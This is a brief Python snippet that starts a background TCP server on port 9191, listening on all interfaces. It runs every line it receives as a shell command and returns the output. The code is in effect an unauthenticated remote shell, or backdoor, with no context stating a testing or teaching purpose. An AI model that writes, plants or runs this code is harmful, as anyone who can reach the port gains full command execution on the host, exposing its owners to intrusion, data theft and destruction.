import socketserver, subprocess, threading
class H(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            self.wfile.write(subprocess.getoutput(line.decode()).encode())
threading.Thread(target=socketserver.TCPServer(("0.0.0.0", 9191), H).serve_forever, daemon=True).start()
